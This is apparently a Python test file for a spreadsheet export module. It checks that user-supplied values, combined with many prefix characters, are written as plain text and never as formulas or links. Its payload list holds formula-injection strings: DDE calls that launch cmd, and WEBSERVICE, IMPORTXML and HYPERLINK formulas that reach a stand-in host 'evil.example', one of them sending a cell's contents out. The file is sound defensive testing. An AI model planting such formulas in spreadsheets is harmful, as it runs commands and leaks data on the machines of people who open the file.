"""No cell of a spreadsheet that we give away is a formula, whatever people have written."""

import io
import zipfile
from itertools import product

import openpyxl
from openpyxl.utils.escape import unescape

from conversations.displayed import displayed
from reports.sheets import LONGEST_CELL, Book, Column

BEGINNINGS = (
    "", " ", "  ", "\t", "\r", "\n", "'", '"', "\u00a0", "\u200b", "\ufeff", "\u202e", "x=", ";", ",", "%", "\x01", "+",
    "-", "=", "@", "|", "{", "\uff1d", "\uff0b",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","Ver")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("http://evil.example","//a")',
    "{=1+1}", "+52 33 1234 5678", "-2+3+cmd|' /C calc'!A0", "http://evil.example", "mailto:a@b.example",
    "internal:A1", "external:c:\\x.xlsx", "_x0041_", "<f>1+1</f>",
)  # fmt: skip
PAYLOADS = [beginning + formula for beginning, formula in product(BEGINNINGS, FORMULAS)]


def written(*values: str) -> bytes:
    book = Book()
    sheet = book.sheet("Datos", [Column("Uno"), Column("Dos")])
    for row, value in enumerate(values, 1):
        sheet.write(row, ["antes", value])
    return book.closed()


def test_every_payload_comes_back_as_the_text_it_was() -> None:
    assert len(PAYLOADS) >= 300
    data = written(*PAYLOADS)
    cells = [row[1] for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.hyperlink for cell in cells} == {None}
    # control signs come back in the file format's own writing
    wrong = [
        (payload, cell.value)
        for payload, cell in zip(PAYLOADS, cells, strict=True)
        if unescape(str(cell.value)) != unescape(displayed(payload))
    ]
    assert wrong == []


def test_no_formula_and_no_way_out_is_in_the_file() -> None:
    with zipfile.ZipFile(io.BytesIO(written(*PAYLOADS))) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
        links = [name for name in archive.namelist() if "externalLink" in name or name.endswith("sheet1.xml.rels")]
    assert links == []
    assert not any(sign in sheet for sheet in sheets for sign in (b"<f>", b"<f ", b"<hyperlink"))


def test_a_phone_number_stays_as_it_is_read() -> None:
    value = openpyxl.load_workbook(io.BytesIO(written("+523312345678"))).worksheets[0].cell(2, 2).value
    assert value == "+523312345678"


def test_a_cell_beyond_what_a_cell_holds_is_cut() -> None:
    value = openpyxl.load_workbook(io.BytesIO(written("a" * 40_000))).worksheets[0].cell(2, 2).value
    assert value == "a" * LONGEST_CELL
